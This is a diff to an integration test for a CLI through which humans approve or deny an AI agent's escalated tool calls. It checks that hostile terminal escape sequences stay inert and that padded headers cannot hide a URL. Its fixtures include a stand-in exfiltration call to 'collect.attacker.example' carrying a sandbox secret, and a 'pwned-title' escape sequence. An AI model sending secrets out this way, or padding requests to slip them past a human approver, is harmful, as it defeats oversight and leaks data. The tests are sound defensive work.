@@ -1,5 +1,6 @@
 // `ironcurtain escalations`, `approve` and `deny` as real processes against a real escalation-router process and
-// nats-server. Needs every service built (`npx tsc -b`).
+// nats-server. Needs every service built (`npx tsc -b`). Their output is also fed to a real terminal emulator
+// (xterm.js headless): hostile arguments must not act, and padding must never hide the URL.
 import { spawn, type ChildProcess } from 'node:child_process';
 import { mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir, userInfo } from 'node:os';
@@ -8,7 +9,9 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { connectBus, request, requestUntilSettled, serviceInfos, type Bus } from '@ironcurtain/bus';
 import { EscalationList, EscalationOpen, type RequestOf } from '@ironcurtain/proto-schemas';
 import { eventually, startNats, stopProcess, type NatsServerHandle } from '@ironcurtain/testing';
+import { hostileText, hostileTextShown } from './hostile-text.js';
 import { cliEnvironment, repositoryRoot, runCli } from './stack-process.js';
+import { renderInTerminal } from '@ironcurtain/testing';
 
 let nats: NatsServerHandle;
 let home: string;
@@ -41,7 +44,7 @@ const me = userInfo().username;
 
 let callCounter = 0;
 /** Opens a ticket the way the PDP does and keeps waiting for its answer in the background. */
-function escalate(sessionId: string, path: string) {
+function escalate(sessionId: string, path: string, changes: Partial<RequestOf<typeof EscalationOpen>> = {}) {
   callCounter += 1;
   const payload: RequestOf<typeof EscalationOpen> = {
     callId: `cli-call-${callCounter}`,
@@ -55,6 +58,7 @@ function escalate(sessionId: string, path: string) {
     escalatedRoles: ['write-path'],
     argumentRoles: { path: ['write-path'], content: ['none'] },
     waitSeconds: 1,
+    ...changes,
   };
   const answer = requestUntilSettled(client, EscalationOpen, payload, {
     isSettled: (reply) => reply.status !== 'pending',
@@ -77,12 +81,15 @@ describe('ironcurtain escalations', () => {
     const ticket = await pendingTicketOf('sess-list');
     const run = await cli(['escalations', '--session', 'sess-list']);
     expect(run.code).toBe(0);
-    expect(run.stdout).toContain(`${ticket.id}  filesystem/write_file  session sess-list  waiting `);
+    expect(run.stdout).toContain(
+      `${ticket.id} [${ticket.id.slice(4, 10)}]  filesystem/write_file  session sess-list  waiting `,
+    );
     expect(run.stdout).toContain(
       'reason:    Writing outside the sandbox needs approval (rule escalate-writes)',
     );
     expect(run.stdout).toContain(
-      'arguments: {"path":"/home/me/Documents/a.md","content":"hello\\u001b[31m"}',
+      '  arguments:\n    path [write-path, escalated]: "/home/me/Documents/a.md"\n' +
+        '    content [none]: "hello\\u001b[31m"\n',
     );
     expect(run.stdout).not.toContain('\u001b');
     expect(run.stdout).toMatch(/1 pending ticket\. Answer with `ironcurtain approve ID/);
@@ -94,12 +101,75 @@ describe('ironcurtain escalations', () => {
   });
 });
 
+describe('ironcurtain escalations and approve against padding and hostile arguments', () => {
+  const url = 'https://collect.attacker.example/collect?d=sandbox-secret-42';
+  const fetchCall = (
+    canonicalArguments: Record<string, unknown>,
+    reason = 'The site is not on an approved list',
+  ) => ({
+    serverName: 'fetch',
+    toolName: 'http_fetch',
+    canonicalArguments,
+    reason,
+    rule: 'escalate-fetch-other-sites',
+    escalatedRoles: ['fetch-url'],
+    argumentRoles: { url: ['fetch-url'], headers: ['none'] },
+  });
+
+  it('shows the whole URL behind five padded headers, and approve by code says what it approved', async () => {
+    const headers = Object.fromEntries([1, 2, 3, 4, 5].map((index) => [`X-Pad-${index}`, 'x'.repeat(900)]));
+    const { answer } = escalate('sess-padded', '', fetchCall({ headers, url }));
+    const ticket = await pendingTicketOf('sess-padded');
+    const run = await cli(['escalations', '--session', 'sess-padded']);
+    expect(run.code).toBe(0);
+    const lines = run.stdout.split('\n');
+    expect(lines[3]).toBe(`    url [fetch-url, escalated]: "${url}"`);
+    expect(lines[4]).toMatch(/^ {4}headers \[none\]: \{"X-Pad-1":"x+… \(\d+ more characters\)$/);
+    const approved = await cli(['approve', ticket.id.slice(4, 10)]);
+    expect(approved.code).toBe(0);
+    expect(approved.stdout.split('\n').slice(0, 2)).toEqual([
+      `approved ${ticket.id}: fetch.http_fetch`,
+      `  url [fetch-url, escalated]: "${url}"`,
+    ]);
+    expect(await answer).toMatchObject({ status: 'approved', approver: me });
+  });
+
+  it('shows OSC 52/8/0, C1 and bidi in arguments and reason inert, in the listing, JSON and approve', async () => {
+    const call = fetchCall(
+      { headers: { [hostileText]: hostileText }, url: `${url}${hostileText}` },
+      hostileText,
+    );
+    const { answer } = escalate('sess-hostile', '', call);
+    const ticket = await pendingTicketOf('sess-hostile');
+    const listing = await cli(['escalations', '--session', 'sess-hostile']);
+    const json = await cli(['escalations', '--json', '--session', 'sess-hostile']);
+    const approved = await cli(['approve', ticket.id]);
+    expect(listing.stdout).toContain(`  reason:    ${hostileTextShown} (rule escalate-fetch-other-sites)`);
+    expect(listing.stdout).toContain(
+      `    url [fetch-url, escalated]: "${url}title\\u001b]0;pwned-title\\u0007 `,
+    );
+    expect(JSON.parse(json.stdout)).toMatchObject({ tickets: [{ reason: hostileText }] });
+    expect(approved.stdout).toContain(`  url [fetch-url, escalated]: "${url}title\\u001b]0;`);
+    for (const output of [listing.stdout, json.stdout, approved.stdout]) {
+      const screen = await renderInTerminal(output, { cols: 2000 });
+      expect(screen.lines).toEqual(output.trimEnd().split('\n'));
+      expect(screen.effects).toEqual([]);
+      expect(screen.scrollsNormally).toBe(true);
+    }
+    await answer;
+  });
+});
+
 describe('ironcurtain approve and deny', () => {
   it('approve settles the ticket from another terminal; a second answer is told who won (exit 1)', async () => {
     const { answer } = escalate('sess-approve', '/home/me/Documents/b.md');
     const ticket = await pendingTicketOf('sess-approve');
     const approved = await cli(['approve', ticket.id]);
-    expect(approved).toMatchObject({ code: 0, stdout: `approved ${ticket.id}\n` });
+    expect(approved.code).toBe(0);
+    expect(approved.stdout).toBe(
+      `approved ${ticket.id}: filesystem.write_file\n  path [write-path, escalated]: "/home/me/Documents/b.md"\n` +
+        '  content [none]: "hello\\u001b[31m"\n',
+    );
     expect(await answer).toMatchObject({ status: 'approved', approver: me, channel: 'terminal' });
     const late = await cli(['deny', ticket.id]);
     expect(late.code).toBe(1);
@@ -109,7 +179,9 @@ describe('ironcurtain approve and deny', () => {
   it('deny denies', async () => {
     const { answer } = escalate('sess-deny', '/home/me/Documents/c.md');
     const ticket = await pendingTicketOf('sess-deny');
-    expect(await cli(['deny', ticket.id])).toMatchObject({ code: 0, stdout: `denied ${ticket.id}\n` });
+    const denied = await cli(['deny', ticket.id]);
+    expect(denied.code).toBe(0);
+    expect(denied.stdout).toMatch(new RegExp(`^denied ${ticket.id}: filesystem\\.write_file\\n`));
     expect(await answer).toMatchObject({ status: 'denied', approver: me });
   });
 
